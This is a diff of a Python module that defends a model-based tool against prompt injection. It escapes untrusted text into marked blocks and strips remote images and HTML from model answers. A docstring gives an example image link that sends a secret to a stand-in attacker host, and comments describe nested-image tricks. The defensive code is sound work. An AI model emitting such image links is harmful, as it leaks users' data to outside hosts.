@@ -1,4 +1,4 @@
-"""Escape text that others wrote before a model reads it, and sanitize what a model answers."""
+"""Escape untrusted text before a model reads it, and sanitize a model's answers."""
 
 import json
 import re
@@ -15,18 +15,19 @@ _ROLE_MARKERS: Final = re.compile(
 _INVISIBLE_CHARS: Final = re.compile(
     "[\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]"
 )
+# The common case: text without any character to escape skips the JSON encoder and three substitutions.
 _SAFE_TEXT: Final = re.compile(r"[^\x00-\x1f\"\\<\[" + _INVISIBLE_CHARS.pattern[1:-1] + "]*")
-"""Text that stands in JSON as it is."""
+"""Text that JSON holds unchanged."""
 BLOCK_TAG: Final = "vault-data"
 
 
 def new_mark() -> str:
-    """Make a mark that no text can have guessed."""
+    """Return a random mark that untrusted text can't have guessed."""
     return secrets.token_hex(6)
 
 
 def escape(data: object) -> str:
-    r"""Write data as JSON that holds nothing a model could take for the prompt's own marks.
+    r"""Return data as JSON that holds nothing a model could take for the prompt's own markup.
 
     ``{"a": "</vault-data>"}`` becomes ``{"a": "\\u003c/vault-data>"}``.
     """
@@ -35,50 +36,53 @@ def escape(data: object) -> str:
     text = json.dumps(data, ensure_ascii=False)
     text = _TAG_OPENING.sub(r"\\u003c", text)
     text = _ROLE_MARKERS.sub(r"\\u005b", text)
-    return _INVISIBLE_CHARS.sub(lambda found: json.dumps(found.group())[1:-1], text)
+    return _INVISIBLE_CHARS.sub(lambda match: json.dumps(match.group())[1:-1], text)
 
 
 def enclose(source: str, escaped: str, mark: str) -> str:
-    """Put escaped text into a block.
+    """Return escaped text as a block of the prompt.
 
     Args:
-        source: Where it comes from, in words of our own: a tool's name.
-        escaped: From `escape`, or a stretch of that.
-        mark: The block's.
+        source: Where the text comes from, in a trusted word such as a tool's name.
+        escaped: Text from `escape`, or a part of it.
+        mark: The block's mark, which closes it as well.
     """
     return f'<{BLOCK_TAG} source="{source}" mark="{mark}">\n{escaped}\n</{BLOCK_TAG} mark="{mark}">'
 
 
 def escape_plain(text: str) -> str:
-    """Write a text outside of a block so that it holds none of the prompt's own marks.
+    """Escape a text that is used outside of a block, so that it holds none of the prompt's markup.
 
-    ``</vault-data>`` becomes ``&lt;/vault-data>``; invisible characters are left out.
+    ``</vault-data>`` becomes ``&lt;/vault-data>``; invisible characters are removed.
     """
     return _ROLE_MARKERS.sub("&#91;", _TAG_OPENING.sub("&lt;", _INVISIBLE_CHARS.sub("", text)))
 
 
 _MAX_HOST_CHARS: Final = 100
+# Removing one image can complete another (`![![x](a)](b)`), so passes are repeated, but not without end.
 _MAX_PASSES: Final = 20
-"""After which an answer that still holds something was made to be taken apart, and no image of it stays."""
+"""Passes after which what is left is taken for a deliberate construction, and every image is disabled."""
 _OBSIDIAN_ONLY: Final = re.compile(rb"%%|\$|\A(?:\xef\xbb\xbf)?---")
-"""What begins comments, maths and properties in Obsidian, and is plain text to others that show Markdown."""
+"""Beginnings of comments, maths and properties in Obsidian, which other Markdown renderers show as plain text."""
 _SCHEMELESS_ADDRESS: Final = re.compile(r"\s*[/\\]{2}")
-"""What begins an address without a scheme: browsers take each backslash for a slash."""
+"""The beginning of an address without a scheme; browsers read a backslash as a slash."""
 ByteReplacement = tuple[int, int, bytes]
 
 
 def sanitize_answer(answer: str) -> tuple[str, tuple[str, ...]]:
-    """Turn images that stand elsewhere into plain mentions, and HTML into text; code stays as it is.
+    """Replace remote images by plain mentions and escape HTML; code stays as it is.
 
-    ``![x](https://evil.example/?q=secret)`` becomes ``[image left out: evil.example]``. What is left is looked at
-    again, since it can be an image once something inside or beside it is gone.
+    ``![x](https://evil.example/?q=secret)`` becomes ``[image left out: evil.example]``. The result is checked
+    again, since removing one part can turn the text around it into an image.
 
     Returns:
-        The answer, and what was done to it, for the person.
+        The sanitized answer, and notes for the person about what was changed.
     """
     data = answer.encode()
     notes: dict[str, None] = {}
     for _ in range(_MAX_PASSES):
+        # The answer is read twice, as Obsidian shows it and as other renderers do: what is a comment for one can be
+        # an image for the other.
         edits = _outermost_edits(
             {*_find_unsafe(data, notes), *_find_unsafe(data, notes, _OBSIDIAN_ONLY.sub(_blank_out, data))}
         )
@@ -91,12 +95,12 @@ def sanitize_answer(answer: str) -> tuple[str, tuple[str, ...]]:
 
 
 def _find_unsafe(data: bytes, notes: dict[str, None], shown: bytes | None = None) -> Iterator[ByteReplacement]:
-    """Yield what has to go.
+    """Yield the replacements for remote images and HTML.
 
     Args:
         data: The answer.
-        notes: What is told of it is added here.
-        shown: The answer as others read it, of the same length; None for the same.
+        notes: Notes for the person are added here.
+        shown: The answer as other renderers read it, with the same length; None to use *data*.
     """
     outline = parser.parse_note(data if shown is None else shown)
     for link in outline.links:
@@ -114,9 +118,9 @@ def _is_remote(target: str) -> bool:
 
 
 def _outermost_edits(edits: set[ByteReplacement]) -> list[ByteReplacement]:
-    """List the edits that lie in no other one, the last first."""
+    """Return the edits that lie within no other edit, the last one first."""
     outermost: list[ByteReplacement] = []
-    for edit in sorted(edits, key=lambda one: (one[0], -one[1])):
+    for edit in sorted(edits, key=lambda edit: (edit[0], -edit[1])):
         if not outermost or edit[0] >= outermost[-1][1]:
             outermost.append(edit)
     return outermost[::-1]
